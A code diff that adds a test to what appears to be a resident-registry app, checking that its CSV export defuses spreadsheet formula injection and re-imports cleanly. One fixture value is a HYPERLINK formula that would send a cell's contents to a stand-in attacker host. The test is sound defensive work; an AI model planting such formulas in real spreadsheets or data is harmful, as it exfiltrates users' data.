@@ -1,4 +1,5 @@
 import fs from 'node:fs';
+import path from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { fixedClock, withActor } from '../../platform/context.ts';
 import {
@@ -9,8 +10,10 @@ import {
   type TestApp,
   type Visitor,
 } from '../../platform/testing.ts';
+import { summaryLine } from './importer.ts';
 import { makeNik } from './nik.ts';
-import { generatedCsv, KIBIN, KRAMATWATU, makeResident } from './test-builders.ts';
+import { importResidents } from './service.ts';
+import { generatedCsv, KIBIN, KRAMATWATU, makeResident, tempDir } from './test-builders.ts';
 
 let test: TestApp;
 
@@ -196,5 +199,38 @@ describe('operator pages', () => {
     const xlsx = await visitor.get(`/kelola/penduduk/ekspor.xlsx?desa=${KRAMATWATU}`);
     expect(xlsx.statusCode).toBe(200);
     expect(xlsx.rawPayload.subarray(0, 2).toString()).toBe('PK');
+  });
+
+  it('neutralises cells a spreadsheet would run as formulas in the CSV export, and re-imports them unchanged', async () => {
+    const visitor = await operator();
+    const staff = withActor(
+      test.ctx,
+      await makeStaff(test.ctx, { role: 'operator_desa', scope: KRAMATWATU }),
+    );
+    await makeResident(staff, KRAMATWATU, {
+      alamat: '=HYPERLINK("http://jahat.example/?d="&A1,"klik")',
+      tempatlahir: '+SERANG',
+      nama_ayah: '@SUM(1+1)',
+      nama_ibu: '-2+3',
+    });
+    const csv = await visitor.get(`/kelola/penduduk/ekspor.csv?desa=${KRAMATWATU}`);
+    expect(csv.statusCode).toBe(200);
+    const row = csv.body.split('\n')[1]!;
+    expect(row.startsWith(`"'=HYPERLINK(""http://jahat.example/?d=""&A1,""klik"")",`)).toBe(true);
+    expect(row).toContain(",'+SERANG,");
+    expect(row).toContain(",'@SUM(1+1),'-2+3,");
+    // no cell of the export may start a formula
+    for (const cell of row.split(',')) expect(cell.replace(/^"/, ''), cell).not.toMatch(/^[=+\-@\t\r]/);
+
+    const file = path.join(tempDir(), 'ekspor.csv');
+    fs.writeFileSync(file, csv.body);
+    const again = await importResidents(staff, {
+      path: file,
+      fileName: 'ekspor.csv',
+      regionCode: KRAMATWATU,
+      mode: 'valid_rows',
+      errorFile: null,
+    });
+    expect(summaryLine(again)).toBe('imported: 0 new, 0 updated, 1 unchanged, 0 rejected');
   });
 });
